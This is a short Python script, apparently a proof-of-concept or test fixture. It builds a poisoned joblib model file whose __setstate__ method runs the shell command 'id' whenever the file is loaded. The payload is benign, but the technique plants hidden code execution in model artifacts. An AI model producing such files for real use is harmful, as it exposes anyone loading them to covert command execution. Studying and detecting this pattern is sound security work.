import joblib


class Model:
    def __setstate__(self, state):
        import os

        os.system("id")


joblib.dump(Model(), "outputs/model.joblib")
